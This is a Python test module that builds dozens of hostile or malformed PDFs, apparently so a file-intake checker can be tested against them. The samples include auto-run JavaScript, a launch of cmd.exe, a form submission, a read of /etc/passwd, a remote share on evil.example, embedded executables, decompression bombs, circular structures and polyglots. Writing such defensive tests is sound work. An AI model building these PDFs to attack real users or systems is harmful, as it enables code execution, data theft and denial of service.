"""PDFs that act, carry files, unfold, or lead their reader in circles."""

from __future__ import annotations

import zlib

from tests.domain.evidence.samples import PAGE, PAGES, acting_pdf, bomb_pdf, pdf, photo, written_pdf, zipped
from tests.stress.corpus.bad import Bad, plain

SCRIPT = b"/S/JavaScript/JS(x7z\\(\\))"


def acting(name: str, catalogue: bytes, *more: bytes, what: str) -> Bad:
    """A PDF of one page with something in its catalogue."""
    return Bad(what, name, lambda: acting_pdf(catalogue, *more))


def noted(annotation: bytes) -> bytes:
    """A PDF with an annotation on its page."""
    page = PAGE.replace(b">>", b"/Annots[4 0 R]>>")
    return written_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES, page, b"<</Type/Annot/Rect[0 0 9 9]%s>>" % annotation
    )


def packed_script() -> bytes:
    """A PDF whose program lies in a packed stream of objects."""
    body = b"5 0 <<%s>>" % SCRIPT
    packed = zlib.compress(body)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    head = b"%PDF-1.7\n"
    bodies = (b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", PAGES, PAGE, stream)
    places, out = [], head
    for number, one in enumerate(bodies, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(out)
    rows = [b"\0\0\0\0\0\0"]
    rows += [b"\1" + place.to_bytes(4, "big") + b"\0" for place in places]
    rows += [b"\2" + (4).to_bytes(4, "big") + b"\0", b"\1" + start.to_bytes(4, "big") + b"\0"]
    table = zlib.compress(b"".join(rows))
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(
        table
    )
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def in_circles() -> bytes:
    """A tree of pages that is its own branch."""
    return written_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2/Parent 2 0 R>>", PAGE
    )


def deep(levels: int) -> bytes:
    """Arrays in arrays."""
    return acting_pdf(b"/X %s%s" % (b"[" * levels, b"]" * levels))


def endless_tables() -> bytes:
    """A table of objects that names itself as the one before it."""
    data = pdf()
    start = data[data.rindex(b"startxref") + 9 :].split()[0]
    return data.replace(b"/Size", b"/Prev %s /Size" % start)


def many_objects(count: int) -> bytes:
    """A PDF of so many objects."""
    out = acting_pdf(b"").partition(b"xref")[0]
    return (
        out + b"".join(b"%d 0 obj<<>>endobj\n" % n for n in range(9, count)) + b"trailer<</Root 1 0 R>>%%EOF"
    )


PAPERS = (
    acting("surat.pdf", b"/OpenAction<<%s>>" % SCRIPT, what="a PDF that runs a program when opened"),
    acting("surat.pdf", b"/OpenAction<</S/J#61vaScript/J#53(x7z)>>", what="the same, spelled otherwise"),
    acting("surat.pdf", b"/AA<</WC<<%s>>>>" % SCRIPT, what="a PDF that runs a program when closed"),
    acting(
        "surat.pdf",
        b"/Names<</JavaScript<</Names[(x)4 0 R]>>>>",
        b"<<%s>>" % SCRIPT,
        what="a program by its name",
    ),
    acting(
        "surat.pdf", b"/OpenAction<</S/Launch/F(cmd.exe)>>", what="a PDF that starts a program of the machine"
    ),
    acting(
        "surat.pdf",
        b"/OpenAction<</S/SubmitForm/F(http://127.0.0.1:9/)>>",
        what="a PDF that sends itself away",
    ),
    acting("surat.pdf", b"/OpenAction<</S/ImportData/F(/etc/passwd)>>", what="a PDF that takes data in"),
    acting(
        "surat.pdf", b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>", what="a PDF that opens a share"
    ),
    acting("surat.pdf", b"/OpenAction<</S/GoToE/T<<>>>>", what="a PDF that opens what it carries"),
    acting("surat.pdf", b"/AcroForm<</XFA(x7z)/Fields[]>>", what="a PDF with a form of XML"),
    acting("surat.pdf", b"/Names<</EmbeddedFiles<</Names[]>>>>", what="a PDF with a place for files"),
    Bad("a PDF that carries a program", "surat.pdf", lambda: pdf(attachment=b"MZx7z")),
    Bad("a PDF with a file pinned to a page", "surat.pdf", lambda: noted(b"/Subtype/FileAttachment/FS<<>>")),
    Bad("a PDF with a film", "surat.pdf", lambda: noted(b"/Subtype/RichMedia/RichMediaContent<<>>")),
    Bad("a PDF with a body in three dimensions", "surat.pdf", lambda: noted(b"/Subtype/3D")),
    Bad("a PDF with sound", "surat.pdf", lambda: noted(b"/Subtype/Sound")),
    Bad(
        "a PDF with a program behind a button",
        "surat.pdf",
        lambda: noted(b"/Subtype/Widget/A<<%s>>" % SCRIPT),
    ),
    Bad("a program in a packed stream", "surat.pdf", packed_script),
    Bad("a PDF that unfolds to 600 MB", "surat.pdf", lambda: bomb_pdf(600)),
    Bad("a PDF of 150,000 objects", "surat.pdf", lambda: many_objects(150_000)),
    Bad("a PDF of 300 pages", "surat.pdf", lambda: pdf(300)),
    Bad("a PDF without pages", "surat.pdf", lambda: pdf(0)),
    Bad("a locked PDF", "surat.pdf", lambda: pdf(password="x7z")),
    Bad("a PDF cut off", "surat.pdf", lambda: pdf()[:-60]),
    Bad("a PDF of its first line", "surat.pdf", plain(b"%PDF-1.7\n")),
    Bad("a PDF of noise", "surat.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"),
    Bad("pages in circles", "surat.pdf", in_circles, True),
    Bad("tables in circles", "surat.pdf", endless_tables, True),
    Bad("arrays in arrays", "surat.pdf", lambda: deep(60_000), True),
    Bad("a PDF with an archive behind it", "surat.pdf", lambda: pdf() + zipped({"x7z": b"x"}) + b"%%EOF"),
    Bad("a PDF behind a page", "surat.pdf", lambda: b"<html><script>x7z()</script>" + pdf()),
    Bad("a PDF behind a photo", "surat.pdf", lambda: photo()[:200] + pdf()),
    Bad("a PDF called a photo", "foto.jpg", pdf, True),
    Bad(
        "a PDF that leads to an address",
        "surat.pdf",
        lambda: noted(b"/Subtype/Link/A<</S/URI/URI(javascript:x7z)>>"),
        True,
    ),
)
